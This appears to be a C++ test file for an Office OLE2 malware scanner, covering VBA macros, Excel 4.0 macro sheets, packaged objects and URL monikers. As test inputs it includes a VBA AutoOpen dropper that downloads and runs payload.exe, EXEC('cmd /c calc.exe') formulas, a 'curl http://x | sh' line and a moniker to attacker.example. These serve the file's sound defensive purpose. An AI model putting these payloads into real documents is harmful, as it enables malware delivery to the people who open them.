// OLE2 analysis: VBA projects (dir parsing on a real vbaProject.bin, generated projects with
// auto-exec payloads), Excel 4.0 macro sheets, packaged files, Equation Editor, encryption, and the
// dir parser on synthetic input. OLE files are written at test time with libgsf's writer.
#include <gtest/gtest.h>

#include "office_test_support.h"
#include "scan/detectors/office/ole_file.h"
#include "scan/detectors/office/ovba_decompress.h"
#include "scan/detectors/office/vba_dir.h"
#include "scan/detectors/office/vba_project.h"

namespace airlock::scan::office::testing {
namespace {

void Le16(std::string& s, uint16_t v) {
  s.push_back(static_cast<char>(v & 0xFF));
  s.push_back(static_cast<char>(v >> 8));
}
void Le32(std::string& s, uint32_t v) {
  Le16(s, static_cast<uint16_t>(v & 0xFFFF));
  Le16(s, static_cast<uint16_t>(v >> 16));
}

std::string RealVbaProject() {
  auto members = ReadZip(ReadFileOrDie(CorpusDir() + "/oleform/oleform-PR314.docm"));
  for (auto& m : members) {
    if (m.name == "word/vbaProject.bin") return m.data;
  }
  ADD_FAILURE() << "no vbaProject.bin in oleform-PR314.docm";
  return {};
}

TEST(VbaDir, ParsesRealProjectFromCorpus) {
  AIRLOCK_NEED_OFFICE_CORPUS();
  std::string bin = RealVbaProject();
  auto ole = OleFile::Open(bin);
  ASSERT_TRUE(ole) << ole.error().What();
  auto raw = ole->ReadStream("VBA/dir");
  ASSERT_TRUE(raw) << raw.error().What();
  auto dir_bytes = DecompressOvba(*raw);
  ASSERT_TRUE(dir_bytes);
  auto dir = ParseVbaDir(*dir_bytes);
  ASSERT_TRUE(dir) << dir.error().What();
  EXPECT_EQ(dir->code_page, 1252);
  EXPECT_EQ(dir->project_name, "Project");
  std::vector<std::string> names;
  for (const auto& m : dir->modules) {
    names.push_back(m.name);
    EXPECT_EQ(m.stream_name, m.name);
    EXPECT_TRUE(m.offset_seen);
    EXPECT_TRUE(ole->HasStream("VBA/" + m.stream_name)) << m.stream_name;
  }
  EXPECT_EQ(names, (std::vector<std::string>{"ThisDocument", "UserFormTEST1", "UserFormTest2", "NewMacros"}));
}

TEST(VbaDir, ExtractsRealModuleSource) {
  AIRLOCK_NEED_OFFICE_CORPUS();
  std::string bin = RealVbaProject();
  auto ole = OleFile::Open(bin);
  ASSERT_TRUE(ole);
  VbaExtraction vba = ExtractVba(*ole);
  ASSERT_EQ(vba.modules.size(), 4u);
  EXPECT_TRUE(vba.problems.empty());
  EXPECT_EQ(vba.modules[3].name, "NewMacros");
  EXPECT_TRUE(vba.modules[3].source.starts_with("Attribute VB_Name = \"NewMacros\"")) << vba.modules[3].source;
  EXPECT_NE(vba.modules[3].source.find("Sub a()"), std::string::npos);
}

TEST(VbaDir, SyntheticDirWithVersionQuirkAndUnicodeNames) {
  auto streams = VbaProjectStreams("", {{"Module1", "Sub A()\r\nEnd Sub\r\n"}, {"Sheet1", "x"}}, 5);
  std::string dir_compressed;
  for (const auto& s : streams) {
    if (s.path == "VBA/dir") dir_compressed = s.data;
  }
  auto dir = ParseVbaDir(*DecompressOvba(dir_compressed));
  ASSERT_TRUE(dir);
  ASSERT_EQ(dir->modules.size(), 2u);
  EXPECT_EQ(dir->modules[0].name, "Module1");
  EXPECT_EQ(dir->modules[0].text_offset, 5u);
  EXPECT_EQ(dir->modules[1].stream_name, "Sheet1");
}

TEST(VbaDir, TruncatedAndGarbageDirsDoNotCrash) {
  auto streams = VbaProjectStreams("", {{"Module1", "Sub A()\r\nEnd Sub\r\n"}});
  std::string dir = *DecompressOvba(streams.back().path == "VBA/dir" ? streams.back().data : streams[1].data);
  for (size_t cut = 0; cut < dir.size(); cut += 3) (void)ParseVbaDir(std::string_view(dir).substr(0, cut));
  EXPECT_FALSE(ParseVbaDir(""));
  std::string huge_size = std::string("\x19\x00\xFF\xFF\xFF\x7F", 6) + "abc";
  auto r = ParseVbaDir(huge_size);
  ASSERT_TRUE(r);
  EXPECT_TRUE(r->modules.empty());
}

const char* kDropper =
    "Attribute VB_Name = \"Module1\"\r\n"
    "Sub AutoOpen()\r\n"
    "  ' Shell in a comment does not count\r\n"
    "  Dim u As String\r\n"
    "  u = \"http://198.51.100.7/payload.exe\"\r\n"
    "  URLDownloadToFile 0, u, Environ(\"TEMP\") & \"\\p.exe\", 0, 0\r\n"
    "  Shell Environ(\"TEMP\") & \"\\p.exe\", vbHide\r\n"
    "End Sub\r\n";

TEST(OleVba, GeneratedDropperGivesAutoexecPayload) {
  std::string ole = MakeOle(VbaProjectStreams("Macros/", {{"Module1", kDropper}, {"ThisDocument", "Attribute VB_Name = \"ThisDocument\"\r\n"}}));
  TreeResult r = ScanTree("dropper.doc", ole);
  auto macro = r.With("office.vba.macro");
  ASSERT_EQ(macro.size(), 1u) << r.Describe();
  EXPECT_NE(macro[0].evidence.find("Module1, ThisDocument"), std::string::npos);
  EXPECT_NE(macro[0].evidence.find("URLDownloadToFile"), std::string::npos);  // source as evidence
  EXPECT_EQ(macro[0].techniques, std::vector<std::string>{"T1059.005"});
  auto autoexec = r.With("office.vba.autoexec");
  ASSERT_EQ(autoexec.size(), 1u);
  EXPECT_EQ(autoexec[0].evidence, "AutoOpen");
  auto payload = r.With("office.vba.autoexec_payload");
  ASSERT_EQ(payload.size(), 1u) << r.Describe();
  EXPECT_EQ(payload[0].severity, 8);
  EXPECT_NE(payload[0].evidence.find("URLDownloadToFile"), std::string::npos);
  EXPECT_NE(payload[0].evidence.find("Shell"), std::string::npos);
  auto ioc = r.With("office.vba.ioc");
  ASSERT_EQ(ioc.size(), 1u);
  EXPECT_NE(ioc[0].evidence.find("http://198.51.100.7/payload.exe"), std::string::npos);
  EXPECT_NE(ioc[0].evidence.find("198.51.100.7"), std::string::npos);
  auto suspicious = r.With("office.vba.suspicious");
  ASSERT_EQ(suspicious.size(), 1u);
  EXPECT_NE(std::find(suspicious[0].techniques.begin(), suspicious[0].techniques.end(), "T1105"),
            suspicious[0].techniques.end());
  // Each module's source is a child named "<Module>.vba".
  bool found = false;
  for (const auto& leaf : r.leaves) found = found || (leaf.name == "Module1.vba" && leaf.data == kDropper);
  EXPECT_TRUE(found);
}

TEST(OleVba, BenignMacroIsOnlyPresence) {
  std::string ole = MakeOle(VbaProjectStreams("_VBA_PROJECT_CUR/", {{"Module1", "Sub Hello()\r\n  MsgBox \"hi\"\r\nEnd Sub\r\n"}}));
  TreeResult r = ScanTree("book.xls", ole);
  EXPECT_TRUE(r.Has("office.vba.macro")) << r.Describe();
  EXPECT_EQ(r.MaxSeverity(), 4) << r.Describe();
}

TEST(OleVba, ProjectWithoutCodeIsInformational) {
  std::string ole = MakeOle(VbaProjectStreams("", {{"ThisDocument", "Attribute VB_Name = \"ThisDocument\"\r\n"
                                                                     "Attribute VB_Base = \"1Normal.ThisDocument\"\r\n"}}));
  TreeResult r = ScanTree("vbaProject.bin", ole);
  auto macro = r.With("office.vba.macro");
  ASSERT_EQ(macro.size(), 1u) << r.Describe();
  EXPECT_EQ(macro[0].severity, 1);
  EXPECT_EQ(r.MaxSeverity(), 1);
}

TEST(OleVba, AutoexecWithoutPayloadIsNotPayload) {
  std::string src = "Private Sub Workbook_Open()\r\n  Range(\"A1\").Value = 1\r\nEnd Sub\r\n";
  TreeResult r = ScanTree("vbaProject.bin", MakeOle(VbaProjectStreams("", {{"ThisWorkbook", src}})));
  ASSERT_TRUE(r.Has("office.vba.autoexec")) << r.Describe();
  EXPECT_EQ(r.With("office.vba.autoexec")[0].evidence, "Workbook_Open");
  EXPECT_FALSE(r.Has("office.vba.autoexec_payload"));
}

TEST(OleVba, ActiveXEventTriggersCountAsAutoexec) {
  std::string src = "Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Any)\r\n"
                    "  CreateObject(\"WScript.Shell\").Run \"calc\"\r\nEnd Sub\r\n"
                    "Sub Frame1_LayoutX()\r\nEnd Sub\r\n";
  TreeResult r = ScanTree("vbaProject.bin", MakeOle(VbaProjectStreams("", {{"ThisDocument", src}})));
  auto f = r.With("office.vba.autoexec");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].evidence, "InkPicture1_Painted");  // Frame1_LayoutX is not an event name
  EXPECT_TRUE(r.Has("office.vba.autoexec_payload"));
}

TEST(OleVba, ObfuscationAndNativeApi) {
  std::string src =
      "Private Declare PtrSafe Function CreateThread Lib \"kernel32\" (ByVal a As Long) As LongPtr\r\n"
      "Sub Document_Open()\r\n  x = StrReverse(\"exe.dmc\") & Chr(32) & Chr(47)\r\n"
      "  Open \"c:\\t\\a.bin\" For Binary As #1\r\nEnd Sub\r\n";
  TreeResult r = ScanTree("vbaProject.bin", MakeOle(VbaProjectStreams("", {{"Module1", src}})));
  auto obf = r.With("office.vba.obfuscation");
  ASSERT_EQ(obf.size(), 1u) << r.Describe();
  EXPECT_NE(obf[0].evidence.find("StrReverse"), std::string::npos);
  EXPECT_NE(obf[0].evidence.find("Chr() x2"), std::string::npos);
  auto susp = r.With("office.vba.suspicious");
  ASSERT_EQ(susp.size(), 1u);
  EXPECT_NE(susp[0].evidence.find("Lib \"kernel32\""), std::string::npos);
  EXPECT_NE(susp[0].evidence.find("Open ... For Binary"), std::string::npos) << susp[0].evidence;
  EXPECT_TRUE(r.Has("office.vba.autoexec_payload"));
}

TEST(OleVba, BadModuleOffsetIsReportedNotCrashed) {
  auto streams = VbaProjectStreams("", {{"Module1", "Sub AutoOpen()\r\nEnd Sub\r\n"}});
  for (auto& s : streams) {
    if (s.path == "VBA/Module1") s.data = "xx";  // shorter than the recorded offset
  }
  TreeResult r = ScanTree("vbaProject.bin", MakeOle(streams));
  auto macro = r.With("office.vba.macro");
  ASSERT_EQ(macro.size(), 1u) << r.Describe();
  EXPECT_NE(macro[0].evidence.find("offset"), std::string::npos);
}

// A BIFF8 Workbook stream: BOF, BOUNDSHEETs, a built-in Auto_Open NAME, EOF.
std::string Workbook(bool very_hidden_macro) {
  std::string s;
  auto rec = [&](uint16_t type, const std::string& data) {
    Le16(s, type);
    Le16(s, static_cast<uint16_t>(data.size()));
    s += data;
  };
  rec(0x0809, std::string(16, '\0'));
  auto sheet = [&](const std::string& name, uint8_t state, uint8_t type) {
    std::string d;
    Le32(d, 0);
    d.push_back(static_cast<char>(state));
    d.push_back(static_cast<char>(type));
    d.push_back(static_cast<char>(name.size()));
    d.push_back('\0');
    d += name;
    rec(0x0085, d);
  };
  sheet("Sheet1", 0, 0);
  sheet("Macro1", very_hidden_macro ? 2 : 0, 1);
  std::string name;
  Le16(name, 0x0020);  // fBuiltin
  name.push_back(0);   // chKey
  name.push_back(1);   // cch
  Le16(name, 0);       // cce
  Le16(name, 0);
  Le16(name, 0);
  name += std::string(4, '\0');
  name.push_back(0);     // fHighByte
  name.push_back('\x01');  // Auto_Open
  rec(0x0018, name);
  rec(0x000A, "");
  return s;
}

TEST(OleXlm, MacroSheetInWorkbookStream) {
  TreeResult r = ScanTree("xlm.xls", MakeOle({{"Workbook", Workbook(true)}}));
  auto f = r.With("office.xlm.macrosheet");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 7);
  EXPECT_NE(f[0].evidence.find("Macro1 (very hidden)"), std::string::npos) << f[0].evidence;
  EXPECT_NE(f[0].evidence.find("Auto_Open"), std::string::npos);
  EXPECT_EQ(f[0].techniques, (std::vector<std::string>{"T1059", "T1564"}));
}

TEST(OleXlm, PlainWorkbookHasNoFinding) {
  std::string wb = Workbook(false);
  TreeResult r = ScanTree("xlm.xls", MakeOle({{"Workbook", wb}}));
  ASSERT_EQ(r.With("office.xlm.macrosheet").size(), 1u);  // visible macro sheet + Auto_Open
  // Remove the macro sheet type: a worksheet-only book is clean.
  std::string clean = wb;
  size_t at = clean.find("Macro1");
  clean[at - 3] = 0;  // dt
  TreeResult c = ScanTree("plain.xls", MakeOle({{"Workbook", clean}}));
  EXPECT_EQ(c.MaxSeverity(), 0) << c.Describe();
}

// Globals (BOF, BOUNDSHEET for one macro sheet, EOF) then the macro sheet substream with one FORMULA
// record: =EXEC("cmd /c calc.exe") as ptgStr + ptgFuncVar(argc 1, EXEC=110), and CALL via ptgFunc.
std::string WorkbookWithExec() {
  auto rec = [](std::string& s, uint16_t type, const std::string& data) {
    Le16(s, type);
    Le16(s, static_cast<uint16_t>(data.size()));
    s += data;
  };
  std::string globals;
  rec(globals, 0x0809, std::string(16, '\0'));
  std::string sheet;
  Le32(sheet, 0);  // lbPlyPos, patched below
  sheet.push_back(1);  // hidden
  sheet.push_back(1);  // macro sheet
  sheet.push_back(6);
  sheet.push_back(0);
  sheet += "Macro1";
  const size_t ply_at = globals.size() + 4;
  rec(globals, 0x0085, sheet);
  rec(globals, 0x000A, "");
  const uint32_t ply = static_cast<uint32_t>(globals.size());
  for (int i = 0; i < 4; ++i) globals[ply_at + i] = static_cast<char>((ply >> (8 * i)) & 0xFF);
  std::string sub;
  std::string bof;
  Le16(bof, 0x0600);
  Le16(bof, 0x0040);
  bof += std::string(12, '\0');
  rec(sub, 0x0809, bof);
  std::string rgce;
  const std::string cmd = "cmd /c calc.exe";
  rgce.push_back(0x17);
  rgce.push_back(static_cast<char>(cmd.size()));
  rgce.push_back(0);
  rgce += cmd;
  rgce += std::string("\x42\x01\x6E\x00", 4);  // ptgFuncVar argc=1 EXEC
  rgce += std::string("\x41\x96\x00", 3);      // ptgFunc CALL
  std::string formula(20, '\0');
  Le16(formula, static_cast<uint16_t>(rgce.size()));
  formula += rgce;
  rec(sub, 0x0006, formula);
  rec(sub, 0x000A, "");
  return globals + sub;
}

TEST(OleXlm, ExecAndCallInMacroSheetFormulas) {
  TreeResult r = ScanTree("xlm.xls", MakeOle({{"Workbook", WorkbookWithExec()}}));
  auto f = r.With("office.xlm.exec");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 8);
  EXPECT_EQ(f[0].evidence, "functions: CALL, EXEC; strings: cmd /c calc.exe");
  EXPECT_EQ(f[0].techniques, (std::vector<std::string>{"T1059", "T1106"}));
  auto sheet = r.With("office.xlm.macrosheet");
  ASSERT_EQ(sheet.size(), 1u);
  EXPECT_NE(sheet[0].evidence.find("Macro1 (hidden)"), std::string::npos);
}

std::string Ole10Native(const std::string& label, const std::string& content) {
  std::string body;
  Le16(body, 2);
  body += label + '\0';
  body += "C:\\Users\\bob\\" + label + '\0';
  Le16(body, 0);
  Le16(body, 3);
  std::string tmp = "C:\\Temp\\" + label + '\0';
  Le32(body, static_cast<uint32_t>(tmp.size()));
  body += tmp;
  Le32(body, static_cast<uint32_t>(content.size()));
  body += content;
  std::string out;
  Le32(out, static_cast<uint32_t>(body.size()));
  return out + body;
}

TEST(OleEmbedded, PackagedExecutableIsExtractedUnderItsName) {
  const std::string content = "MZ not really a program";
  TreeResult r = ScanTree("oleObject1.bin", MakeOle({{"\x01Ole10Native", Ole10Native("invoice.exe", content)}}));
  auto f = r.With("office.ole.package");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 7);
  EXPECT_NE(f[0].evidence.find("C:\\Users\\bob\\invoice.exe"), std::string::npos);
  ASSERT_EQ(r.leaves.size(), 1u);
  EXPECT_EQ(r.leaves[0].name, "invoice.exe");
  EXPECT_EQ(r.leaves[0].data, content);
}

TEST(OleEmbedded, PackagedTextFileIsLowSeverity) {
  TreeResult r = ScanTree("oleObject1.bin", MakeOle({{"\x01Ole10Native", Ole10Native("notes.txt", "hello")}}));
  auto f = r.With("office.ole.package");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].severity, 4);
}

TEST(OleEmbedded, EquationEditorClassId) {
  const std::string clsid("\x02\xCE\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);
  TreeResult r = ScanTree("oleObject1.bin", MakeOle({{"Equation Native", std::string(40, 'A')}}, clsid));
  auto f = r.With("office.ole.equation_editor");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 8);
  EXPECT_EQ(f[0].techniques, std::vector<std::string>{"T1203"});
}

TEST(OleEmbedded, UrlMonikerInOleStream) {
  std::string ole_stream(20, '\0');
  ole_stream += std::string("\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B", 16);
  for (char c : std::string("http://attacker.example/t.hta")) {
    ole_stream.push_back(c);
    ole_stream.push_back('\0');
  }
  TreeResult r = ScanTree("oleObject1.bin", MakeOle({{"\x01Ole", ole_stream}}));
  auto f = r.With("office.ole.ole2link");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_NE(f[0].evidence.find("http://attacker.example/t.hta"), std::string::npos);
}

TEST(OleFile, GarbageAfterSignatureIsRejectedQuietly) {
  std::string junk = std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + std::string(600, '\xFF');
  EXPECT_FALSE(OleFile::Open(junk));
  TreeResult r = ScanTree("junk.doc", junk);
  EXPECT_TRUE(r.findings.empty());
}

}  // namespace
}  // namespace airlock::scan::office::testing

namespace airlock::scan {
std::vector<std::unique_ptr<Analyzer>> MakeOfficeDetectors();
}

namespace airlock::scan::office::testing {
namespace {

TEST(OleLimits, ExhaustedChildBudgetStopsChildrenNotFindings) {
  std::string ole = MakeOle(VbaProjectStreams("", {{"Module1", "Sub AutoOpen()\r\n Shell \"calc\"\r\nEnd Sub\r\n"},
                                                   {"Module2", "Sub B()\r\nEnd Sub\r\n"}}));
  Collector out;
  out.budget = 10;  // smaller than any module source
  Object obj;
  obj.name = "vbaProject.bin";
  obj.data = ole;
  for (auto& a : MakeOfficeDetectors()) {
    if (a->Accepts(obj)) a->Analyze(obj, out);
  }
  EXPECT_TRUE(out.children.empty());
  bool payload = false;
  for (const auto& f : out.findings) payload = payload || f.id == "office.vba.autoexec_payload";
  EXPECT_TRUE(payload);
}

}  // namespace
}  // namespace airlock::scan::office::testing

namespace airlock::scan::office::testing {
namespace {

// Issue 17: packages judged by the payload. Runnable content under an innocent label, shortcut and
// command-file names are 7; a PDF under its own name is 2 (the PDF child is judged on its own).
TEST(OleEmbedded, PackagesAreJudgedByTheirPayload) {
  std::string lnk("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
  lnk += std::string(60, '\0') + "C:\\Windows\\System32\\calc.exe";
  const std::pair<std::string, std::string> runnable[] = {
      {"readme.txt", lnk},
      {"Invoice", "[InternetShortcut]\r\nURL=file://198.51.100.7/share/run.exe\r\n"},
      {"desktop.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\icon\r\n"},
      {"photo.jpg", "#!/bin/sh\ncurl http://x | sh\n"},
      {"update.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"\n"},
  };
  for (const auto& [label, content] : runnable) {
    TreeResult r = ScanTree("oleObject1.bin", MakeOle({{"\x01Ole10Native", Ole10Native(label, content)}}));
    auto f = r.With("office.ole.package");
    ASSERT_EQ(f.size(), 1u) << label << "\n" << r.Describe();
    EXPECT_EQ(f[0].severity, 7) << label;
  }
  TreeResult pdf = ScanTree("oleObject1.bin", MakeOle({{"\x01Ole10Native", Ole10Native("Q3 report.pdf", "%PDF-1.4\n%%EOF\n")}}));
  auto f = pdf.With("office.ole.package");
  ASSERT_EQ(f.size(), 1u) << pdf.Describe();
  EXPECT_EQ(f[0].severity, 2);
}

}  // namespace
}  // namespace airlock::scan::office::testing
